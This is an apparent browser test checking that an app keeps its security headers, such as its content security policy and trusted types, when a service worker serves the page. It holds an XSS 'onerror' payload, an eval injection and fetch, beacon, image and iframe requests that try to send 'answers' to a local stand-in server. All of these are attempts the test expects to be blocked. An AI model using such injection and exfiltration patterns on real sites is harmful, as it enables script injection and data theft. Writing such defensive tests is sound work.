import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { expect, it, onTestFinished } from 'vitest'
import { untilReady, untilStored } from '#tests/support/answering.ts'
import { Phone } from '#tests/support/phone.ts'
import { startRound } from '#tests/support/round.ts'

it('a real browser enforces the headers, also on the page that the service worker serves', async () => {
  const round = await startRound()
  const asked: string[] = []
  const stranger = createServer((request, reply) => {
    asked.push(request.url ?? '')
    reply.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}')
  }).listen(0, '127.0.0.1')
  await once(stranger, 'listening')
  onTestFinished(() => void stranger.close())
  const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`

  const phone = await Phone.open(join(round.folder, 'profile'))
  const { page } = phone
  const complaints: string[] = []
  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()))
  await page.goto(round.link('iit'))
  await untilReady(page)
  await untilStored(page)
  await round.stop()
  const reply = await page.reload()
  await untilReady(page)
  expect(reply?.fromServiceWorker()).toBe(true)
  expect(reply?.headers()).toMatchObject({
    'content-security-policy': expect.stringContaining("script-src 'self'"),
    'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin',
    'permissions-policy': expect.stringContaining('microphone=()'),
    'referrer-policy': 'no-referrer',
  })
  // the app itself is content with them: what it complains of is that nobody answers
  expect(complaints.filter((text) => !/ERR_CONNECTION_REFUSED|Failed to fetch/.test(text))).toEqual([])

  const attempts = await page.evaluate(async (origin) => {
    const violated: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective))
    const state = window as unknown as { injected?: number }
    const tried = async (attempt: () => unknown) => {
      try {
        await attempt()
        return 'went through'
      } catch (error) {
        return (error as Error).name
      }
    }
    const results = {
      html: await tried(() => {
        const text: string = '<img src=x onerror="window.injected = 1">'
        document.createElement('div').innerHTML = text
      }),
      eval: await tried(
        () =>
          // in a turn of its own: what the debugging protocol runs itself may evaluate anything
          new Promise((resolve, reject) => {
            setTimeout(() => {
              try {
                // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
                resolve(window.eval('window.injected = 2'))
              } catch (error) {
                reject(error as Error)
              }
            })
          }),
      ),
      script: await tried(() => {
        document.createElement('script').text = 'window.injected = 3'
      }),
      policy: await tried(() => {
        const { trustedTypes } = window as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): unknown }
        }
        trustedTypes.createPolicy('anything', {})
      }),
      fetch: await tried(() => fetch(`${origin}/leak?answers`)),
      beacon: await tried(() => {
        if (navigator.sendBeacon(`${origin}/beacon`) === false) throw new TypeError('refused')
      }),
      location: await tried(
        () =>
          new Promise((resolve, reject) => {
            navigator.geolocation.getCurrentPosition(resolve, () => reject(new DOMException('', 'NotAllowedError')))
          }),
      ),
    }
    const image = new Image()
    image.src = `${origin}/image?answers`
    const frame = document.createElement('iframe')
    frame.src = `${origin}/frame`
    document.body.append(image, frame)
    await new Promise((resolve) => setTimeout(resolve, 500))
    return { results, injected: state.injected, violated: [...new Set(violated)].sort() }
  }, elsewhere)
  expect(attempts.injected).toBeUndefined()
  const { beacon, ...results } = attempts.results
  expect(results).toEqual({
    html: 'TypeError',
    eval: 'EvalError',
    script: 'TypeError',
    policy: 'TypeError',
    fetch: 'TypeError',
    location: 'NotAllowedError',
  })
  expect(beacon).toBeDefined()
  expect(attempts.violated).toEqual(
    expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'trusted-types']),
  )
  expect(asked).toEqual([])
  // and nobody may put the app into a frame of their own
  expect(reply?.headers()['content-security-policy']).toContain("frame-ancestors 'none'")
})
